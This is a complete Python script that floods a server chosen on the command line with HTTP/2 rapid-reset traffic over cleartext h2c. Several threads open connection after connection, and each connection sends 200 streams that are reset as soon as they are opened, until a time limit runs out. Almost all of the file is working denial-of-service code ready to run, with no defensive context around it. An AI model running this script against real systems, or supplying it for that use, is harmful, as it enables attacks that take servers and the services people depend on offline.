#!/usr/bin/env python3
"""An HTTP/2 rapid-reset flood over h2c: connections that each open 200 streams and reset
them at once (HEADERS + RST_STREAM), one after another on THREADS threads for SECONDS.
Usage: h2c-reset-flood.py HOST:PORT SECONDS [THREADS]   (prints the connections made)
"""
import socket
import struct
import sys
import threading
import time

host, port = sys.argv[1].rsplit(":", 1)
seconds = float(sys.argv[2])
threads = int(sys.argv[3]) if len(sys.argv) > 3 else 4


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


# GET / over http with :authority localhost (HPACK: indexed :method GET, :scheme http, :path /)
HEADERS = b"\x82\x86\x84\x01\x09localhost"
made = [0]


def one():
    s = socket.create_connection((host, int(port)))
    burst = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")
    for i in range(200):
        sid = 2 * i + 1
        burst += frame(1, 5, sid, HEADERS) + frame(3, 0, sid, struct.pack(">I", 8))
    try:
        s.sendall(burst)
        s.settimeout(3)
        while s.recv(65536):
            pass
    except OSError:
        pass
    s.close()


def worker():
    end = time.time() + seconds
    while time.time() < end:
        try:
            one()
        except OSError:
            time.sleep(0.01)
        made[0] += 1


ts = [threading.Thread(target=worker) for _ in range(threads)]
for t in ts:
    t.start()
for t in ts:
    t.join()
print("connections:", made[0])
